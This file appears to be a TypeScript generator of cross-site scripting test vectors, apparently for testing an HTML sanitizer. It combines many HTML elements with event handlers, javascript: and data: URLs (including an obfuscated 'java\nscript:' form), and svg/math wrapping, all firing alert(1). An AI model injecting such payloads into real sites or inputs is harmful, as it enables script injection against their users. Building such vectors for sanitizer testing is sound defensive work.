const elements =
  'a abbr acronym address applet area article aside audio b base bdi bdo big blink body br button canvas center cite code col command content custom-x data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp script section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp'.split(
    ' ',
  );
const handlers =
  'abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput beforematch beforepaste beforetoggle begin blur bounce canplay change click close contextmenu copy cuechange cut dblclick deactivate drag dragend drop end ended error finish focus focusin focusout formdata fullscreenchange hashchange help input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel orientationchange pagehide pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress propertychange readystatechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select show start submit suspend timeupdate toggle touchend touchstart transitioncancel transitionend transitionrun unhandledrejection unload volumechange webkitanimationstart wheel'.split(
    ' ',
  );
const addressed =
  'href src action formaction data poster srcset background cite longdesc xlink:href ping srcdoc manifest code codebase'.split(' ');
const programs = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
];

/** What the long lists of vectors do: every element with every handler, with every attribute that takes an address, and inside another language. */
export function combinations(): ReadonlyArray<string> {
  const handled = elements.flatMap((name) =>
    handlers.map((event) => `<${name} src=x autofocus tabindex=0 on${event}=alert(1)>x</${name}>`),
  );
  const led = elements.flatMap((name) =>
    addressed.flatMap((attribute) => programs.map((to) => `<${name} ${attribute}="${to}">x</${name}>`)),
  );
  const foreign = elements.flatMap((name) =>
    ['svg', 'math'].map((outer) => `<${outer}><${name} src=x onload=alert(1) onerror=alert(1)><b></${name}></${outer}>`),
  );
  return [...handled, ...led, ...foreign];
}
